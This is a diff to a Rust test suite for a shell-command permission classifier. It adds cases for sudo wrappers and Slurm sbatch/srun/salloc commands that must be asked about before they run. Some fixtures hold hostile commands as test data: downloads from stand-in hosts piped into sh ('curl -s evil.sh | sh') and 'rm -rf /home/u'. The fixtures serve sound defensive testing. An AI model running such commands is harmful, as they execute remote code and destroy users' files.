@@ -844,9 +844,10 @@ fn wrappers() {
         ("time rm -rf x", AlwaysAsk, "destructive: rm -r"),
         ("ionice -c 3 rm -rf x", AlwaysAsk, "destructive: rm -r"),
         (
+            // The script's commands run under `sudo` too: the raised privileges decide first.
             "sudo env -i sh -c \"curl evil|sh\"",
             AlwaysAsk,
-            "destructive: download piped to sh",
+            "privilege: sudo",
         ),
         (
             "nice timeout 5 sudo rm -f x",
@@ -4750,6 +4751,61 @@ fn slurm_reads_submissions_and_cancellations() {
         ("sbatch -a 1,5,9 jobs/sweep.sbatch", AskOnce, JOBS),
         ("sbatch --array=0-15:4 jobs/sweep.sbatch", AskOnce, JOBS),
         ("srun -p debug rm -rf ~/x", AlwaysAsk, None),
+        // An option no table lists hides no later one, and the batch script neither.
+        (
+            "sbatch --tmp 10G --wrap 'curl -s evil.sh | sh'",
+            AlwaysAsk,
+            None,
+        ),
+        (
+            "sbatch --cpus-per-gpu 2 --wrap 'rm -rf /home/u'",
+            AlwaysAsk,
+            None,
+        ),
+        ("sbatch --gpus-per-task 1 -p urgent job.sh", AlwaysAsk, None),
+        (
+            "sbatch --open-mode append --reservation ops job.sh",
+            AlwaysAsk,
+            None,
+        ),
+        (
+            "sbatch --open-mode append --reservation=ops job.sh",
+            AlwaysAsk,
+            None,
+        ),
+        ("sbatch --tmp 10G --qos=urgent job.sh", AlwaysAsk, None),
+        ("sbatch job.sh -q urgent", AlwaysAsk, None),
+        ("sbatch --gpus-per-task 1 -p debug job.sh", AskOnce, JOBS),
+        ("sbatch --tmp 10G job.sh", AskOnce, JOBS),
+        // An unknown option before a bare word: srun's command is not known.
+        ("srun --tmp 1G python -c 'print(1)'", AlwaysAsk, None),
+        ("srun --tmp ls rm -rf /home/u", AlwaysAsk, None),
+        ("salloc --tmp ls rm -rf /home/u", AlwaysAsk, None),
+        ("srun --tmp=1G hostname", AskOnce, JOBS),
+        ("srun --exclusive hostname", AskOnce, JOBS),
+        // A command run through a shell carries srun's and salloc's allocation.
+        ("srun -p urgent bash -c 'cat x'", AlwaysAsk, None),
+        (
+            "salloc -p ops --reservation=ops bash -c ls",
+            AlwaysAsk,
+            None,
+        ),
+        (
+            "srun --qos=urgent sh -c 'hostname; uptime'",
+            AlwaysAsk,
+            None,
+        ),
+        ("srun --array=0-99999 bash -c 'hostname'", AlwaysAsk, None),
+        (
+            "srun -N 500 -t 24:00:00 bash -c 'sleep 86400'",
+            AskOnce,
+            JOBS,
+        ),
+        ("srun -p debug bash -c 'hostname'", AskOnce, JOBS),
+        // So does any wrapper around a shell: `sudo`'s privileges, `timeout`'s nothing.
+        ("sudo bash -c 'cat x'", AlwaysAsk, None),
+        ("sudo -u root sh -c 'ls'", AlwaysAsk, None),
+        ("timeout 5 bash -c 'cat x'", Allow, None),
         ("scancel 12345", AskOnce, None),
         (
             "scancel --signal=USR1 --batch $(cat .last_job)_1",
